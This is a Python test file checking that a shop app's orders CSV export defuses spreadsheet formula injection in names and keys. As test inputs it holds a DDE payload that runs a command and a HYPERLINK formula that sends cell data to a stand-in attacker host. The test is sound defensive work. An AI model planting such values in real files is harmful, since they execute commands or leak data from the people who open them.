"""CSV formula injection: names and keys a buyer or a host chooses must not become formulas
in the orders CSV that staff open in a spreadsheet."""

from __future__ import annotations

import csv
import io

import aiohttp

from liveroom.client import RoomClient

from ..helpers import bearer, token

ROOM = "thailand"
PAYLOAD = "=cmd|' /C calc'!A0"
PRODUCT_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


async def test_csv_formula_injection_through_names_and_keys_is_defused(server):
    srv = await server()
    host = bearer(token(ROOM, "host"))
    async with aiohttp.ClientSession(base_url=srv.base_url) as api:
        response = await api.post(f"/api/rooms/{ROOM}/products", headers=host, json={
            "id": "calc", "name": PRODUCT_NAME, "price": "10", "currency": "THB",
            "stock": 5})
        assert response.status == 201, await response.text()
        response = await api.post(f"/api/rooms/{ROOM}/sales", headers=host, json={
            "product_id": "calc", "stock": 5, "per_user_limit": 5, "duration": 60})
        sale = await response.json()
        buyers = [("@evil", PAYLOAD, "-1"), ("-2", "+SUM(1,2)", "-cmd"), ("ann", "Ann", "k1")]
        for user, name, key in buyers:
            async with RoomClient(srv.base_url, ROOM, token=token(ROOM, user=user,
                                                                  name=name)) as client:
                await client.buy(sale["id"], 1, idempotency_key=key)
        exported = await api.get(f"/api/rooms/{ROOM}/orders?format=csv", headers=host)
        text = await exported.text()

    rows = list(csv.reader(io.StringIO(text)))
    # No cell a spreadsheet reads may start a formula: = + - @ (tab and CR too).
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (value, row)
    orders = list(csv.DictReader(io.StringIO(text)))
    assert [(o["user_id"], o["user_name"], o["idempotency_key"]) for o in orders] == [
        ("'@evil", "'" + PAYLOAD, "'-1"), ("'-2", "'+SUM(1,2)", "'-cmd"), ("ann", "Ann", "k1")]
    assert {o["product_name"] for o in orders} == {"'" + PRODUCT_NAME}
    # Every cell is quoted, and the numbers are still numbers.
    assert text.splitlines()[1].startswith('"') and orders[0]["quantity"] == "1"
